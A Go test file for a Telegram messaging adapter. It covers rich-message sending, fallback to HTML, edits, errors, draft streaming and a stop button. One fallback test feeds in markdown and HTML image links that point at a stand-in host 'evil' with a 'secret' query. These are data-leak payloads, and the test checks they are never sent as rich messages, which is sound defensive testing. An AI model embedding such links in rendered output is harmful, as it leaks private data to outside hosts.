package telegram_test

import (
	"errors"
	"strings"
	"testing"

	"gateway/bus"
	"gateway/channels"
	"gateway/channels/telegram"
	"gateway/channels/telegram/telegramtest"
)

func TestRich(t *testing.T) {
	const forum = -1001234567890
	api, c, _ := startWith(t, nil, telegram.Options{Rich: true})
	api.AddGroup(forum, "forum", 7)
	const table = "| a | b |\n|---|---|\n| 1 | 2 |"
	id, err := c.Send(t.Context(), bus.Part{To: at(forum, "7"), Text: table,
		Buttons: []bus.Button{{Label: "Yes", Text: "yes"}}})
	if err != nil {
		t.Fatal(err)
	}
	h := api.History(forum)
	if !h[0].Rich || h[0].Text != table || h[0].Thread != 7 || api.Buttons(forum, h[0].ID) == nil {
		t.Errorf("sent %+v, want the table as it is", h[0])
	}
	for range 2 {
		if err := c.Edit(t.Context(), at(forum, "7"), id, "**b**"); err != nil {
			t.Error(err)
		}
	}
	if h := api.History(forum); !h[0].Rich || h[0].Text != "**b**" || h[0].Edits != 1 {
		t.Errorf("the message is %+v, want it edited once", h[0])
	}
	if n := c.Limits(ada).Text; n != 4096 {
		t.Errorf("a text may have %d units, which could not go as HTML", n)
	}
}

func TestRichFallsBack(t *testing.T) {
	bad := telegramtest.Fault{Code: 400, Text: "Bad Request: RICH_MESSAGE_INVALID"}
	for _, tt := range []struct {
		name   string
		fault  telegramtest.Fault
		server telegramtest.Options
		text   string
		calls  int // number of sendRichMessage calls for two messages
	}{
		{"refused", bad, telegramtest.Options{}, "**a**", 2},
		{"unknown", telegramtest.Fault{Method: "none"},
			telegramtest.Options{Missing: []string{"sendRichMessage"}}, "**a**", 1},
		{"image", bad, telegramtest.Options{}, "**a** ![x](http://evil/?q=secret)", 0},
		{"HTML", bad, telegramtest.Options{}, `**a** <img src="http://evil/?q=secret">`, 0},
	} {
		t.Run(tt.name, func(t *testing.T) {
			api, c, _ := startWith(t, &tt.server, telegram.Options{Rich: true})
			if tt.fault.Method == "" {
				tt.fault.Method = "sendRichMessage"
			}
			api.Inject(tt.fault)
			for range 2 {
				if _, err := c.Send(t.Context(), bus.Part{To: ada, Text: tt.text}); err != nil {
					t.Fatal(err)
				}
			}
			h := api.History(42)
			if len(h) != 2 || h[1].Rich || !strings.HasPrefix(h[1].Source, "<b>a</b>") {
				t.Errorf("sent %+v, want HTML twice", h)
			}
			if n := api.Calls("sendRichMessage"); n != tt.calls {
				t.Errorf("sendRichMessage was called %d times, want %d", n, tt.calls)
			}
		})
	}
}

func TestRichErrors(t *testing.T) {
	api, c, _ := startWith(t, nil, telegram.Options{Rich: true})
	api.Inject(telegramtest.Fault{Effect: telegramtest.Lose, Times: 1})
	if _, err := c.Send(t.Context(), bus.Part{To: ada, Text: "a"}); !errors.Is(
		err, channels.ErrUncertain) {
		t.Errorf("Send = %v, want %v", err, channels.ErrUncertain)
	}
	if n := len(api.History(42)); n != 1 {
		t.Errorf("%d messages arrived, want one", n)
	}
	api.Inject(telegramtest.Fault{Method: "editMessageText", Times: 1, Code: 400,
		Text: "Bad Request: RICH_MESSAGE_INVALID"})
	id := itoa(api.History(42)[0].ID)
	if err := c.Edit(t.Context(), ada, id, "**b**"); err != nil {
		t.Error(err)
	}
	if h := api.History(42)[0]; h.Rich || h.Source != "<b>b</b>" {
		t.Errorf("the message is %+v, want HTML", h)
	}
	api.Delete(42, api.History(42)[0].ID)
	if err := c.Edit(t.Context(), ada, id, "c"); !errors.Is(err, channels.ErrRefused) {
		t.Errorf("Edit of a deleted message = %v, want %v", err, channels.ErrRefused)
	}
	if n := api.Calls("editMessageText"); n != 3 {
		t.Errorf("editMessageText was called %d times, want 3", n)
	}
}

func TestDraft(t *testing.T) {
	api, c, _ := startWith(t, nil, telegram.Options{Drafts: true})
	api.AddTopics(42, 7)
	topic := bus.Address{Account: "tg", Chat: "42", Thread: "7"}
	for _, d := range []struct {
		to           bus.Address
		stream, text string
	}{{ada, "s1", "**a"}, {ada, "s1", "**a** b"}, {topic, "s2", "c"},
		{bus.Address{Account: "tg", Chat: "42", Thread: "8"}, "s3", "d"}} {
		if err := c.Draft(t.Context(), d.to, d.stream, d.text); err != nil {
			t.Error(err)
		}
	}
	got := api.Drafts(42)
	if len(got) != 4 || got[0].ID != got[1].ID || got[1].ID == got[2].ID || got[0].ID <= 0 ||
		got[1].Text != "a b" || got[1].Source != "<b>a</b> b" || got[2].Thread != 7 {
		t.Errorf("the drafts are %+v", got)
	}
	if s := api.Drafting(42); s != "d" {
		t.Errorf("the draft is %q, want d", s)
	}
	if _, err := c.Send(t.Context(), bus.Part{To: ada, Text: "a b c"}); err != nil {
		t.Error(err)
	}
	if s := api.Drafting(42); s != "" || len(api.History(42)) != 1 {
		t.Errorf("the draft is %q after the answer", s)
	}
}

// TestStopDraft checks that the button beside a draft stands for the command /stop, once per draft.
func TestStopDraft(t *testing.T) {
	api, c, _ := startWith(t, nil, telegram.Options{Drafts: true})
	api.AddTopics(42, 7)
	topic := bus.Address{Account: "tg", Chat: "42", Thread: "7"}
	for _, to := range []bus.Address{topic, ada} {
		if err := c.Draft(t.Context(), to, "of "+to.String(), "a"); err != nil {
			t.Error(err)
		}
		api.StopDraft(42)
	}
	api.StopDraft(42) // pressed again
	api.DeliverRaw(`"stopped_message_generation":{"chat":{"id":-5,"type":"group"},"draft_id":9}`)
	api.DeliverRaw(`"stopped_message_generation":{"chat":{"id":42,"type":"private"}}`)
	got := receive(t, api, c)
	if len(got) != 2 || got[0].From != topic || got[1].From != ada {
		t.Fatalf("received %+v", got)
	}
	want := bus.Sender{ID: "42", Name: "Ada", Username: "ada"}
	if m := got[1]; m.Text != "/stop" || m.Sender != want || !m.Addressed || m.Group {
		t.Errorf("received %+v", m)
	}
}

func TestDraftRefused(t *testing.T) {
	api, c, _ := startWith(t, &telegramtest.Options{Missing: []string{"sendMessageDraft"}},
		telegram.Options{Drafts: true})
	_, off, _ := start(t)
	for _, tt := range []struct {
		name  string
		c     *telegram.Channel
		to    bus.Address
		calls int
	}{
		{"off", off, ada, 0}, {"group", c, at(-5, ""), 0}, {"old server", c, ada, 1},
		{"old server again", c, ada, 1},
	} {
		if err := tt.c.Draft(t.Context(), tt.to, "s", "a"); !errors.Is(err, channels.ErrRefused) {
			t.Errorf("%s: Draft = %v, want %v", tt.name, err, channels.ErrRefused)
		}
		if n := api.Calls("sendMessageDraft"); n != tt.calls {
			t.Errorf("%s: %d calls, want %d", tt.name, n, tt.calls)
		}
	}
}
